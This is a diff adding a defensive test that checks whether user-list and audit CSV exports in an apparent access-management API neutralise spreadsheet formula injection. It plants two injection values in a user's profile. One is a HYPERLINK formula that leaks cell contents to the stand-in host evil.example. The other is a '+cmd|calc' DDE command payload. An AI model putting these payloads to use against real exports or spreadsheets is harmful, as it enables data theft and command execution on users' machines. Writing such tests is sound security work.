@@ -232,3 +232,27 @@ describe('7. login lockout: alike for every name, a growing delay per name and s
     expect((await attempt('cotb.antwerpen', DEMO_PASSWORD, '10.7.0.2')).statusCode).toBe(429);
   });
 });
+
+describe('4. CSV formula injection', () => {
+  it('neutralises a name written as a formula in the user list and the audit CSV exports', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';
+    const user = ctx.client();
+    await user.loginAs('user.antwerpen');
+    const me = (await user.get('/api/v1/me')).json();
+    const saved = await user.request({ method: 'PUT', url: '/api/v1/me', payload: { surname: formula, firstName: '+cmd|calc', title: me.title, language: me.language, email: me.email } });
+    expect(saved.statusCode, saved.body).toBe(200);
+
+    const tb = ctx.client();
+    const mw = (await tb.loginAs('tb.antwerpen')).context.domain.id as string;
+    const list = (await tb.get(`/api/v1/access/domains/${mw}/users/export?format=csv&username=user.antwerpen`)).body;
+    const htb = ctx.client();
+    await htb.loginAs('htb.antwerpen');
+    const audit = (await htb.get('/api/v1/access/audit/export?format=csv')).body;
+    for (const csv of [list, audit]) {
+      const cells = csv.split(/[;\n]/).map((c) => c.replace(/^"|"$/g, ''));
+      expect(cells.some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
+    }
+    expect(list).toContain(`'=HYPERLINK`);
+    expect(list).toContain(`'+cmd|calc`);
+  });
+});
